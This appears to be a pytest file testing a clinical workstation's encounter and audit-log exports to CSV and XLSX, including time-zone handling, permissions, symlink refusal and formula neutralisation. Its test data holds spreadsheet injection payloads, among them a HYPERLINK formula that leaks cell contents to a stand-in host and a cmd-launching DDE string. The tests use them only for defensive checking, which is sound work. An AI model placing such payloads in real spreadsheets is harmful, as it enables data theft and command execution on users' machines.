"""The list and the export: the right period, the right words, harmless, audited, whole."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.making_records import draft_with_patient, issue, patient
from tests.making_sites import NOW, Minutes
from workstation.clinical.encounter import Decision, Override
from workstation.clinical.findings import known, not_assessed
from workstation.exchange.spreadsheet import from_csv_text
from workstation.records.drafts import Attachment
from workstation.site.events import Act
from workstation.site.problems import Problem, Situation
from workstation.workflows import reports
from workstation.workflows.session import Session

TODAY = date(2026, 11, 26)
EVIL = '=HYPERLINK("http://x.example/"&A1,"open")'


def last_event(session: Session) -> tuple[str, dict[str, Any]]:
    with session.records.reading() as unit:
        event = unit.audit_log.events(limit=1)[0]
    return event.act, json.loads(event.detail)


def a_signed_call(session: Session, uuid: str = "e-1") -> None:
    draft = draft_with_patient(session.records, uuid)
    decision = Decision(
        override=Override("same_day", "call_back", False, "", EVIL),
        not_known_reason="-1+1",
        call_back_at=NOW + timedelta(hours=2),
    )
    with session.records.writing("nokafor") as unit:
        found = [known("collapse", False), not_assessed("spo2_percent", "no_device")]
        draft = unit.encounters.save_answers(uuid, draft.version, found, ())
        unit.issue(issue(draft, unit.audit_log.head(), decision, unit.at))


def read_csv(path: Path) -> list[dict[str, str]]:
    text = path.read_text("utf-8-sig")
    rows = csv.DictReader(io.StringIO(text, newline=""))
    return [{name: from_csv_text(field) for name, field in row.items()} for row in rows]


def read_xlsx(path: Path) -> list[dict[str, Any]]:
    sheet = load_workbook(path).active
    assert sheet is not None
    names, *rows = sheet.iter_rows()
    for row in rows:
        assert all(cell.data_type in ("s", "n") and cell.hyperlink is None for cell in row)
    titles = [str(cell.value) for cell in names]
    return [dict(zip(titles, [cell.value for cell in row], strict=True)) for row in rows]


READ: dict[str, Callable[[Path], list[dict[str, Any]]]] = {"csv": read_csv, "xlsx": read_xlsx}


@pytest.mark.parametrize("format", READ)
def test_an_export_says_what_was_found_and_decided(
    manager: Session, tmp_path: Path, format: str
) -> None:
    a_signed_call(manager)
    out = tmp_path / f"november.{format}"
    done = reports.export_encounters(manager, TODAY, TODAY, format, out)
    assert (done.path, done.rows) == (out, 1)
    assert out.stat().st_mode & 0o077 == 0
    (row,) = READ[format](out)
    assert str(row["Encounter"]) == "1"
    assert (row["State"], row["Setting"], row["Nurse"]) == ("signed", "phone", "N. Okafor, RN")
    assert (row["Patient"], row["Record number"]) == ("FERREIRA, Ana Lúcia", "00482913")
    assert (row["Scale"], row["Scale version"]) == ("astct-2019", "ASTCT 2019")
    assert (str(row["Grade at least"]), str(row["Grade at most"])) == ("2", "3")
    assert row["Override"] == "lowered" and row["Override note"] == EVIL
    assert row["Reason for what is not known"] == "-1+1"
    assert row["Started"] == "2026-11-26T03:00:00-06:00"  # the site is in Chicago
    assert "SpO" in row["Not assessed"] or "aturation" in row["Not assessed"]
    act, detail = last_event(manager)
    assert act == Act.EXPORTED
    assert (detail["rows"], detail["format"], detail["start"]) == (1, format, "2026-11-26")


@pytest.mark.parametrize("format", READ)
def test_the_audit_of_a_period(
    manager: Session, clock: Minutes, tmp_path: Path, format: str
) -> None:
    clock.advance(days=1)
    a_signed_call(manager)
    out = tmp_path / f"audit.{format}"
    tomorrow = TODAY + timedelta(days=1)
    done = reports.export_audit(manager, tomorrow, tomorrow, format, out)
    (row,) = READ[format](out)
    with manager.records.reading() as unit:
        exported, signed = unit.audit_log.events(limit=2)
    assert (exported.act, exported.obj) == (Act.EXPORTED, "audit")
    assert (str(row["Entry"]), row["What"], row["About"]) == (str(signed.seq), "signed", "e-1")
    assert (row["Hash"], row["Details"]) == (signed.hash.hex(), signed.detail)
    assert row["When"] == "2026-11-27T03:00:00-06:00"
    assert done.rows == 1


def test_days_are_those_of_the_site(manager: Session, clock: Minutes, tmp_path: Path) -> None:
    """NOW is 03:00 in Chicago; four hours earlier it was still the 25th there."""
    clock.advance(hours=-4)
    draft_with_patient(manager.records, "e-1")
    clock.advance(hours=4)
    draft_with_patient(manager.records, "e-2")
    yesterday = TODAY - timedelta(days=1)
    by_day = {
        day: [row.uuid for row in reports.encounters(manager, start=day, end=day)]
        for day in (yesterday, TODAY)
    }
    assert by_day == {yesterday: ["e-1"], TODAY: ["e-2"]}
    out = tmp_path / "yesterday.csv"
    assert reports.export_encounters(manager, yesterday, yesterday, "csv", out).rows == 1
    assert reports.export_encounters(manager, yesterday, TODAY, "csv", out).rows == 2


def test_a_call_entered_in_error_is_exported_with_its_reason(
    manager: Session, tmp_path: Path
) -> None:
    draft = draft_with_patient(manager.records)
    with manager.records.writing("nokafor") as unit:
        unit.encounters.enter_in_error("e-1", draft.version, "=wrong+person")
    reports.export_encounters(manager, TODAY, TODAY, "csv", tmp_path / "out.csv")
    (row,) = read_csv(tmp_path / "out.csv")
    assert row["State"] == "entered in error"
    assert row["Entered in error because"] == "=wrong+person"
    assert row["Grade at least"] == ""


def test_one_page_of_the_list_has_an_end(nurse: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    for number in range(1, 4):
        draft_with_patient(nurse.records, f"e-{number}")
    monkeypatch.setattr(reports, "_MOST_LINES", 2)
    assert [row.id for row in reports.encounters(nurse, limit=9)] == [3, 2]
    assert [row.id for row in reports.encounters(nurse, limit=9, offset=2)] == [1]
    assert [row.id for row in reports.encounters(nurse, limit=0, offset=-1)] == [3]


def test_the_list_is_audited(nurse: Session) -> None:
    draft_with_patient(nurse.records)
    assert len(reports.encounters(nurse, "ferreira")) == 1
    assert last_event(nurse) == (
        Act.SEARCHED,
        {"query": "ferreira", "start": None, "end": None, "found": [1]},
    )


def test_a_nurse_does_not_export(nurse: Session, tmp_path: Path) -> None:
    with pytest.raises(Problem) as caught:
        reports.export_encounters(nurse, TODAY, TODAY, "csv", tmp_path / "x.csv")
    assert caught.value.situation is Situation.NOT_ALLOWED
    assert not (tmp_path / "x.csv").exists()


def test_a_link_is_not_followed(manager: Session, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    link = tmp_path / "out.csv"
    link.symlink_to(victim)
    with pytest.raises(Problem) as caught:
        reports.export_encounters(manager, TODAY, TODAY, "csv", link)
    assert caught.value.situation is Situation.IS_A_LINK
    assert victim.read_text() == "precious"


def test_a_failed_export_leaves_the_old_file_and_is_told(manager: Session, tmp_path: Path) -> None:
    out = tmp_path / "no such folder" / "out.csv"
    with pytest.raises(Problem):
        reports.export_encounters(manager, TODAY, TODAY, "csv", out)
    act, detail = last_event(manager)
    assert act == Act.EXPORTED and detail["failed"] == "folder_not_writable"


def test_the_sites_own_folder_is_no_place_for_an_export(manager: Session) -> None:
    with pytest.raises(Problem):
        reports.export_encounters(manager, TODAY, TODAY, "csv", manager.data_dir / "out.csv")
    assert not (manager.data_dir / "out.csv").exists()


@pytest.mark.parametrize(
    ("start", "end", "format", "says"),
    [
        (TODAY, TODAY - timedelta(days=1), "csv", "before it starts"),
        (TODAY, TODAY, "pdf", "csv or xlsx"),
    ],
)
def test_an_impossible_export_is_refused(
    manager: Session, tmp_path: Path, start: date, end: date, format: str, says: str
) -> None:
    with pytest.raises(Problem, match=says):
        reports.export_encounters(manager, start, end, format, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_hostile_name_is_harmless_in_each_text_column(manager: Session, tmp_path: Path) -> None:
    person = patient("p-1", family_name=EVIL, mrn="@SUM(1)", given_name="+1")
    with manager.records.writing("nokafor") as unit:
        from workstation.clinical.findings import Setting, Therapy

        draft = unit.encounters.start("e-1", Setting.WARD, "-nurse", "=2+3")
        stored = unit.patients.add(person)
        therapy = Therapy(agent_text="\t=cmd|' /C calc'!A0")
        unit.encounters.attach("e-1", draft.version, Attachment(stored, False, therapy, ()))
    for format, read in READ.items():
        out = tmp_path / f"out.{format}"
        reports.export_encounters(manager, TODAY, TODAY, format, out)
        (row,) = read(out)
        assert row["Patient"] == f"{EVIL.upper()}, +1"
        assert (row["Record number"], row["Nurse"]) == ("@SUM(1)", "-nurse")
        assert row["Call-back number"] == "=2+3"
        assert row["Therapy"] == "\t=cmd|' /C calc'!A0"
